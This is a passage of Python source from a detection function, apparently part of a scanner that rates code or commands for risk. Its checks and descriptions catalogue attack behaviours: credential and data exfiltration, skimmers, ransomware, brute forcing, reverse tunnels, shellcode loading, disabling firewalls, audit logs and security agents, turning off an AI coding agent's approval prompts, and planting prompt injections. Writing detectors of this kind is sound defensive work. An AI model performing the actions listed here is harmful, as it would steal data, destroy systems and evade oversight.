    compliance = _COMPLIANCE_WORDS.any_in(code)
    if compliance and _COMPLIANCE_OFF.search(code) and each_item(code):
        what = "switches device compliance requirements off (passcode, encryption, jailbreak checks) in every policy"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _MDM_COMMAND_WORDS.any_in(code) and _MDM_FLEET_COMMAND.search(code) and (
        _EVERY_MANAGED_DEVICE.search(code) or each_item(code)
    ):
        what = "locks, erases or puts in lost mode every managed device"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "onnectionString" in code and _CONNECTION_STRINGS.search(code) and _SENDS.search(code) and ".sub(" not in code:
        what = "collects applications' database connection strings (with their passwords) and sends them elsewhere"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if _CRACKING_LIST_WORDS.any_in(code) and _CRACKING_LIST.search(code) and (
        _TRIES_LOGIN.search(code)
    ):
        what = "tries the passwords of a cracking wordlist (rockyou) against a login or an encrypted file"
        found.append(("brute-force", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if ("init" in code or "recipients" in code) and _STORE_RECIPIENTS.search(code) and _FETCHED_KEY.search(code):
        what = "re-encrypts the password store to a key fetched from a keyserver (its owner reads every password)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "subscribe" in code and _SUBSCRIBES_ALL.search(code) and _OPENS_WHAT_IT_HEARS.search(code) and (
        _BROKER_ELSEWHERE.search(code)
    ):
        what = "subscribes to every topic of a broker and sends open or on to each device it hears of"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "erase" in code and _BOOTLOADER_ERASE.search(code) and "/dev/tty" in code:
        what = "erases a board's flash (its bootloader) through the bootloader's serial console"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "pickle" in code and _PICKLED_TASKS.search(code):
        what = "has task-queue workers accept pickled messages (whoever can publish to the broker runs code)"
        found.append(("deserialization", OperationRisk(RiskLevel.HIGH, Category.DESERIALIZATION, what)))
    if ("rue" in code or "yes" in code) and _CHECK_FLIPPED.search(code) and _LIBRARY_CODE.search(code):
        what = ("patches an installed library's code to skip certificate or host-key checks (every program using it "
                "can then be intercepted)")
        found.append(("tls", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if _KEY_SPACE_WORDS.any_in(code) and _KEY_SPACE.search(code) and (
        _SENDS_GUESS.search(code) and _STOPS_AT_HIT.search(code)
    ):
        what = "tries every value of a key, code or PIN in turn against a device or a service until one is accepted"
        found.append(("brute-force", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "ass" in code and _PASSWORD_FORM.search(code) and _FORM_FIELDS.search(code) and _SENDS_MAIL.search(code) and (
        personal_mailbox(code)
    ):
        what = "mails what users type into a password or login form to a personal mailbox (their passwords leave)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "/etc/" in code and weakens_app_settings(code):
        what = "rewrites an application's settings under /etc to turn a check, a login or a limit off"
        found.append(("weakened-settings", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "Actual" in code and _ACTUAL_ALERT.search(code) and _ALERT_EVENT.search(code) and _ALERT_SENT.search(code):
        what = "issues a public emergency alert marked as real (not a test or an exercise)"
        found.append(("alert", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "/role" in code and _ADMIN_ROLE_PATH.search(code):
        what = "puts an account into an administrators' role through a server's REST API"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ("Layer" in code or "layer" in code) and _DELETES_LAYERS.search(code) and each_item(code):
        what = "deletes the layers of every geodata set a listing gives"
        found.append(("delete", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    raster = _HUGE_RASTER.search(code) if ".Create(" in code else None
    if raster and int(raster[1]) * int(raster[2]) >= 10**10:
        what = f"creates a raster of {int(raster[1]) * int(raster[2]):,} cells (terabytes on disk)"
        found.append(("disk-fill", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    flood = _CRAWL_FLOOD.search(code) if "CONCURRENT_REQUESTS" in code else None
    if flood and int(flood[1]) >= 1000:
        what = f"crawls with {flood[1]} requests at once (a flood the site's servers answer as an attack)"
        found.append(("flood", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    if deletes_with_backups(code):
        what = "deletes a folder of data and its copy in the backups too (nothing is left to restore from)"
        found.append(("delete", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "remote_control" in code and _TERMINAL_REMOTE_CONTROL.search(code):
        what = "lets anyone on the network drive the terminal (kitty's remote control on a TCP port)"
        found.append(("terminal", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "52;" in code and _CLIPBOARD_QUERY.search(code) and _SENDS.search(code):
        what = "asks the terminal for the clipboard (OSC 52) and sends what it answers elsewhere"
        found.append(("terminal", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "password for" in code and _FAKE_SUDO_PROMPT.search(code) and _SENDS.search(code):
        what = "imitates sudo's password prompt and sends the password typed into it"
        found.append(("terminal", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "isolation" in code and _ISOLATION_OFF.search(code):
        what = "turns off client isolation of a Wi-Fi network (its guests reach each other and the office network)"
        found.append(("network", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if ".getpass" in code and _PROMPT_HOOK.search(code) and _SENDS.search(code):
        what = "replaces the password prompt (getpass) with code that also sends what is typed elsewhere"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if ("%B" in code or "endswith" in code) and _TRACK_DATA.search(code) and _SENDS.search(code):
        what = "collects card numbers (magstripe track data) and sends them out (a skimmer)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "admin" in code or "root" in code:
        pairs = len(_DEFAULT_LOGIN.findall(code))
        if pairs >= 2 and _LOGIN_ATTEMPT.search(code) and (
            _LOCAL_ONLY.search(code) or "ip_network" in code or _ADDRESS_SWEEP.search(code)
        ):
            what = "tries a list of vendors' default logins against other machines (password guessing)"
            found.append(("brute-force", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "nlock" in code and _FLEET_UNLOCK.search(code) and each_item(code) and outside_url(code):
        what = "sends an unlock command to every vehicle a fleet listing gives (anyone can ride or open them)"
        found.append(("vehicle-command", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "ip_network" in code and subnet_scan(code):
        what = "probes every address of a subnet for open ports (a network scan)"
        found.append(("network-scan", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if _MACHINE_WORDS.any_in(code):
        found += [("device", risk) for risk in machine_risks(code)]
    test_mode = "est_mode" in code or "est-mode" in code
    if (_ALARM_WORDS.any_in(code) or test_mode) and (
        (_ALARM_OFF.search(code) and each_item(code)) or _PAGING_EMPTIED.search(code)
    ):
        what = "switches off every alarm of a monitoring system or empties who it pages (failures go unnoticed)"
        found.append(("monitoring", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    actuators = _ACTUATOR_WORDS.any_in(code)
    if actuators and _ACTUATORS_OFF.search(code) and each_item(code) and _PUBLISHES.search(code):
        what = "switches off heating, irrigation, pumps or cooling of every zone or device a loop gives"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "apiServerAddress" in code and _OPEN_KIND_API.search(code):
        what = "serves a local cluster's API (admin of everything in it) on every address"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    command_words = _DEVICE_COMMAND_WORDS.any_in(code)
    if command_words and _DEVICE_FLEET_COMMAND.search(code) and (each_item(code) or "while read" in code):
        what = "sends a disconnect, shutdown, reset or remote-administration command to every device a listing gives"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "snapshot_download" in code and _EVERY_MODEL.search(code):
        what = "downloads every model or dataset a hub lists (no limit: terabytes)"
        found.append(("disk-fill", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    if "169.254.169.254" in code and _LISTENS_EVERYWHERE.search(code):
        what = "relays the cloud metadata endpoint (the instance's credentials) to every address"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "iptc" in code and _IPTC_OPENED.search(code):
        what = "flushes the firewall's rules or sets its policy to accept everything (python-iptables)"
        found.append(("defense-evasion", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _VECTOR_LISTING_WORDS.any_in(code) and (
        _EVERY_COLLECTION_DROPPED.search(code)
    ):
        what = "drops every collection or index a database lists (a vector store's embeddings, a document store's data)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "enable-rescue" in code and _RESCUE_AND_RESET.search(code) and each_item(code):
        what = "boots every server a listing gives into rescue mode and resets it (root on each, with the key given)"
        found.append(("cloud-control", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ("management_address" in code or "token_authorization" in code) and _MODEL_SERVER_OPENED.search(code):
        what = ("opens a model server's management API to every address or without its token (anyone loads a model: "
                "runs code)")
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if ("65535" in code or "inbound_policy" in code) and _EVERY_PORT_TO_EVERYONE.search(code):
        what = "opens every port of a cloud firewall to the whole internet"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "RemoteForward" in code and _REMOTE_FORWARD.search(code):
        what = "configures ssh to open a reverse tunnel (a port of another host leads to this machine)"
        found.append(("tunnel", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    _run_checks(_REGISTRY_AND_DIRECTORY_CHECKS, code, found)
    if _BROKER_TEXT_WORDS.any_in(code):
        found += [("broker", risk) for risk in broker_text_risks(code, production=production_target(code))]
    if "Reply-To" in code and _PAYMENT_REQUEST.search(code) and _replies_elsewhere(code):
        what = ("sends mail in someone's name with replies going to another domain, asking for a payment or bank "
                "details (business email compromise)")
        found.append(("phishing", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "address=/#/" in code and _ACCESS_POINT.search(code) and _SIGN_IN_PAGE.search(code):
        what = ("runs an access point that answers every DNS name with itself and serves a sign-in page (an evil "
                "twin collecting logins)")
        found.append(("phishing", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if _NIX_WORDS.any_in(code) and (nix_risk := _NIX_RISKS.search(code)):
        what = {
            "trust": "makes every user (or a broad group) a trusted Nix user (they can give the daemon any store path)",
            "sandbox": "turns off the Nix build sandbox",
            "exec": "runs shell commands during Nix evaluation (builtins.exec with unsafe native code allowed)",
            "wrapper": "installs a setuid-root wrapper around a shell",
            "sudo": "lets the wheel group use sudo without a password (NixOS)",
            "sigs": "lets Nix install store paths nobody signed (a substituter or an import can swap any program)",
        }[nix_risk.lastgroup or "trust"]
        found.append(("nix", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if ("larm" in code or "LARM" in code) and _ALARM_OVERRIDE.search(code) and _COMMAND_SENT.search(code):
        what = "sends devices a command with their alarms overridden or switched off"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "CapacityUnits" in code and max((int(n) for n in _CAPACITY_UNITS.findall(code)), default=0) >= 10_000:
        what = "provisions tens of thousands of capacity units on tables (billed every hour)"
        found.append(("cloud-abuse", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    if "exec_module" in code and "spec_from_file_location" in code and _UPLOADED_MODULE.search(code):
        what = "imports and runs Python modules from a folder other people upload to"
        found.append(("remote-code", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "jwt.encode(" in code and _LONG_LIFETIME.search(code):
        what = "mints an administrator or impersonation token that stays valid for a year or more"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _SECOND_FACTOR_WORDS.any_in(code) and _MFA_SKIPPED.search(code) and (
        _EACH_ITEM_REQUEST.search(code)
    ):
        what = "creates sign-in links or sessions that skip the second factor for every account a listing gives"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "is_superuser" in code and _SUPERUSER_WITH_PASSWORD.search(code):
        what = "makes an application superuser with a password spelled in the code (a known login to its admin)"
        found.append(("app-admin", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if (("source" in code and "http://" in code) or "disable_checksum" in code) and _GEM_SOURCE_UNVERIFIED.search(code):
        what = "installs gems from a plain-HTTP source or with checksum validation off (any server can swap them)"
        found.append(("supply-chain", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    dialplan = dialplan_risk(code) if "exten" in code else None
    if dialplan is not None:
        found.append(("telephony", OperationRisk(RiskLevel.HIGH, Category.NETWORK, dialplan)))
    if _HOSTING_WORDS.any_in(code):
        found += [("hosting", risk) for risk in hosting_text_risks(code)]
    if "afka" in code:
        found += [("kafka", risk) for risk in kafka_admin_risks(code, production=production_target(code))]
    _run_checks(_SERVICE_CHECKS, code, found)
    if _SAML_WORDS.any_in(code):
        found += [("identity", risk) for risk in saml_risks(code)]
    if "struct.pack" in code and raw_modbus_write(code):
        what = "writes a PLC's coils or registers with hand-built Modbus frames (breakers, interlocks, setpoints)"
        found.append(("field-device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "payment_gateways/" in code and redirects_payments(code):
        what = "points a store's payment gateway at another account and switches the other gateways off"
        found.append(("money", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if _DATA_PLATFORM_WORDS.any_in(code):
        found += [("data-platform", risk) for risk in data_platform_text_risks(code)]
    _run_checks(_INFRASTRUCTURE_CHECKS, code, found)
    caches = [m[1] for m in _FOREIGN_BUILD_CACHE.finditer(code)] if "--remote_" in code or "--bes_" in code else []
    if any(outside_address(ip) for ip in caches):
        what = ("points the build's remote cache or executor at a bare outside address (its outputs replace what the "
                "build produces; the sources go there)")
        found.append(("supply-chain", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    copied = _COPY_TO_REMOTE.search(code) if "COPY" in code or "copy" in code else None
    if copied and SHARE_FILE_QUERY.search(copied[0]):
        what = "copies a data share's files, queried whole, to remote storage (DuckDB COPY … TO a bucket or URL)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "/ac/" in code and _CACHE_ENTRY_PUT.search(code):
        what = ("overwrites a remote build cache's action results by hand (every build that hits them gets this "
                "output instead of its own)")
        found.append(("supply-chain", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if devcontainer_download(code):
        what = "makes a dev container run a downloaded script whenever it is created or started"
        found.append(("download-exec", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "AF_UNIX" in code and _DAEMON_SOCKET.search(code) and _LISTENS_EVERYWHERE.search(code):
        what = "relays a local daemon's socket (its API, its identities) to every network interface"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "KG_" in code and _OPEN_KERNEL_GATEWAY.search(code) and _EMPTY_GATEWAY_TOKEN.search(code):
        what = "starts a kernel gateway on every interface without a token (anyone runs code on the machine)"
        found.append(("open-notebook", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "![" in code and _LEAKING_IMAGE.search(code):
        what = "plants an instruction that makes a chatbot put users' data in an image's address (prompt injection)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "AKIA" in code and _SPELLED_AWS_KEY.search(code) and _SERVER_DATA_TO_BUCKET.search(code):
        what = "copies a server's data to a bucket with access keys spelled in the script (someone else's account)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "sshd_config" in code and _SSHD_OPENED.search(code) and _SSHD_WRITTEN.search(code):
        what = "lets root log in over ssh, or accounts with empty passwords"
        found.append(("ssh-config", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "getpwall" in code and _EVERY_HOME_DELETED.search(code):
        what = "deletes the home directory of every account the system lists"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "distributionUrl" in code and _FOREIGN_GRADLE.search(code):
        what = "points the Gradle wrapper at a distribution outside Gradle's servers (every build runs it)"
        found.append(("supply-chain", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "supervisor." in code and _SUPERVISOR_STOPPED.search(code):
        what = "stops every program a supervisord runs, or shuts it down, through its XML-RPC interface"
        found.append(("process", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if "VirtualAlloc" in code and _SHELLCODE_RUN.search(code) and _FETCHED_BYTES.search(code):
        what = "loads downloaded machine code into executable memory and runs it (a shellcode loader)"
        found.append(("remote-code", OperationRisk(RiskLevel.CRITICAL, Category.DYNAMIC_CODE, what)))
    if "OLLAMA_HOST" in code and _OLLAMA_EVERYWHERE.search(code) and _OLLAMA_OPENED.search(code):
        what = "serves Ollama (no login: anyone runs, pulls or deletes models) to every network and web origin"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if ("=" in code or ":" in code or "/" in code) and rewrites_payee_accounts(code):
        what = "rewrites payees' bank accounts (in a payment or payroll file, or through its API): the money goes "
        what += "elsewhere"
        found.append(("money", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "xdotool" in code and _AUTO_ACCEPT.search(code):
        what = "accepts remote-support connection requests automatically (whoever connects gets the desktop)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "ysoserial" in code and _YSOSERIAL.search(code):
        what = "builds a Java deserialization exploit (ysoserial) to run commands on another server"
        found.append(("attack-tool", OperationRisk(RiskLevel.HIGH, Category.DESERIALIZATION, what)))
    if server_request_mirror(code):
        what = "installs a web app hook that copies every request (headers, cookies, bodies) to another server"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "environ" in code and _WHOLE_ENVIRONMENT.search(code) and _TELEMETRY_OUT.search(code):
        what = "puts every environment variable (keys and tokens) into telemetry sent to another server"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if unverified_firmware_push(code):
        what = "has devices install firmware from a plain-HTTP address or without checking its signature"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if charging_unauthorised(code):
        what = "turns off chargers' authorisation (anyone charges, for free)"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if request_copier(code):
        what = "deploys an edge worker that copies every request passing through (cookies, headers, bodies) elsewhere"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if open_resource_policy(code):
        what = "sets a resource policy that lets every AWS account do everything with a queue, topic or bucket"
        found.append(("cloud-exposure", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    pinned = hosts_file_hijack(code)
    if pinned is not None:
        what = f"points names at an outside address ({pinned}) in /etc/hosts (their traffic goes there)"
        found.append(("network", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    store = exposed_store_service(code)
    if store is not None:
        what = f"exposes the {store} service outside the cluster (a load balancer or node port in front of a store)"
        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    redirected = sieve_redirect_outside(code)
    if redirected is not None:
        what = f"installs a sieve script that redirects the mailbox's mail to an outside address ({redirected})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if _DEVICE_API_WORDS.any_in(code):
        found += [("device", risk) for risk in device_api_risks(code)]
    if _ROUTER_WORDS.any_in(code):
        found += [("device", risk) for risk in router_text_risks(code)]
    if _VEHICLE_BUS_WORDS.any_in(code):
        found += [("device", risk) for risk in vehicle_bus_risks(code)]
    if encrypts_in_place(code):
        what = "encrypts every file of a directory tree and deletes the originals (ransomware)"
        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    found += [("proxy-admin", risk) for risk in admin_api_risks(code)]
    forced = [a or b for a, b in _FORCED_EXTENSION.findall(code)] if "xtension" in code or "update_url" in code else []
    foreign = [url for url in forced if not _STORE_UPDATE.search(url)]
    if foreign:
        what = f"force-installs a browser extension from a third-party server ({foreign[0][:60]})"
        found.append(("browser-extension", OperationRisk(RiskLevel.HIGH, Category.PERSISTENCE, what)))
    if "--disable-web-security" in code and (
        "--user-data-dir" not in code or _EVERYDAY_PROFILE.search(code) is not None
    ):
        what = "runs the everyday browser profile with web security off (any site can read the others' data)"
        found.append(("browser", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "app.asar" in code and _INSTALLED_APP.search(code) and _REPACKS.search(code):
        what = "rewrites an installed application's code (its app.asar): it runs at the app's next start"
        found.append(("tamper", OperationRisk(RiskLevel.HIGH, Category.PERSISTENCE, what)))
    if _AGENT_APPROVAL_WORDS.any_in(code) and _AGENT_APPROVALS_OFF.search(code):
        what = "turns off an AI coding agent's approval prompts (it runs any command or edit without asking)"
        found.append(("agent-config", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if _INSTRUCTION_WORDS.any_in(code) and _HIDDEN_INSTRUCTION.search(code) and (
        _INSTRUCTED_SECRET.search(code)
    ):
        what = "plants hidden instructions for an AI model to read secrets and pass them on (prompt injection)"
        found.append(("prompt-injection", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "CopyFromScreen" in code and _SENDS.search(code) and _REPEATS_FOREVER.search(code):
        what = "captures the screen over and over and sends the pictures away (spyware)"
        found.append(("capture", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "SSH_AUTH_SOCK" in code and _OTHERS_AGENTS.search(code):
        what = "uses other users' ssh-agent sockets (their keys log in anywhere they can)"
        found.append(("credential-reuse", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "launchctl" in code and _LAUNCHD_STOPPED.search(code):
        lowered = code.lower()
        agents = [s for s in SECURITY_SERVICES if s in lowered]
        if agents:
            what = f"unloads security agents' launchd jobs ({agents[0]}): the machine stops watching itself"
            found.append(("defense-evasion", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if form_grabber(code):
        what = "plants browser code that sends what shoppers type into forms to another host (a skimmer)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    found += [("secret-read", risk) for risk in typesetting_risks(code)]
    found += [("records", risk) for risk in quality_record_risks(code)]
    watched = ("inotifywait" in code or "fswatch" in code) and _WATCHED_USER_FOLDERS.search(code) is not None
    if watched and _COPIED_AWAY.search(code):
        what = "watches the user's folders and copies every new file to another host as it appears"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    _run_checks(_PLATFORM_CHECKS, code, found)
    if _ENCRYPTION_TOOL_WORDS.any_in(code) and forgotten_key_encryption(code):
        what = "encrypts files with a random key it does not keep and deletes the originals (ransomware)"
        found.append(("ransomware", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if ("copy" in code or "clip" in code) and _CLIPBOARD_WRITE.search(code) and _WALLET_ADDRESS.search(code):
        what = "swaps wallet addresses copied to the clipboard for its own (payments go to someone else)"
        found.append(("clipboard", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if ("trl" in code or "TRL" in code) and _SELECT_ALL.search(code) and _PERMANENT_DELETE_KEYS.search(code):
        what = "drives a file manager to select everything and delete it permanently (Shift+Delete)"
        found.append(("delete", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
    if "plugins" in code and _GATEWAY_AUTH_REMOVED.search(code):
        what = "removes an API gateway's authentication, ACL or rate-limit plugins (its APIs open to anyone)"
        found.append(("defense-evasion", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "jwt" in code and _FORGED_ADMIN_TOKEN.search(code) and _SECRET_FROM_FILE.search(code):
        what = "signs an administrator's token with a signing secret read from a server's configuration (forgery)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "gists" in code and _PUBLIC_GIST.search(code) and _READS_FILES.search(code):
        what = "publishes files as a public gist (anyone can read them)"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if ("create_connection" in code or ".connect(" in code) and _HELD_CONNECTIONS.search(code):
        what = "opens connections to a server by the thousand or without end and keeps them open (the server runs out)"
        found.append(("flood", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    injects = ("pyautogui" in code or "Controller" in code) and _INPUT_INJECTION.search(code) is not None
    if injects and _SERVES_EVERYWHERE.search(code):
        what = "lets anyone on the network drive this desktop's mouse and keyboard (a server typing what it hears)"
        found.append(("remote-control", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
    if "ROLE_" in code and _SCREEN_TEXT_ROLES.search(code) and _SENDS.search(code):
        what = "reads what other applications show (terminals, password fields) through accessibility and sends it"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if _EXCLUSIVE_WORD.any_in(code) and _EXCLUSIVE_LOCK_HELD.search(code):
        what = "takes an exclusive lock on a database and holds it forever (every other writer and reader waits)"
        found.append(("resource", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    if cartesian_flood(code):
        what = ("runs cartesian-product queries (every row times every row) without end or dozens at once: the "
                "database server runs out of CPU, memory and temporary space")
        found.append(("resource", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    if "randomblob" in code and _ENDLESS_BLOBS.search(code):
        what = "inserts random blobs without end (a recursive query without LIMIT, or an endless loop): fills the disk"
        found.append(("disk-fill", OperationRisk(RiskLevel.HIGH, Category.RESOURCE, what)))
    if "audit" in code and _AUDIT_OFF_REQUEST.search(code):
        what = "turns off an application's or a device's audit log through its API (what is done next is unrecorded)"
        found.append(("defense-evasion", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "d{1" in code and _CARD_NUMBER_PATTERN.search(code) and _SENDS.search(code):
        what = "picks card numbers out of files or logs with a card-number pattern and sends them out"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    if "modprobe" in code and _MODPROBE_INSTALL.search(code):
        what = "writes a modprobe `install` line: a command runs as root whenever that module is asked for"
        found.append(("persistence", OperationRisk(RiskLevel.HIGH, Category.PERSISTENCE, what)))
    mirror = copies_people_to_address(code) if "create_engine" in code or "connect(" in code else None
    if mirror:
        what = f"copies tables of people from one database into another at a bare outside address ({mirror})"
        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
    return found
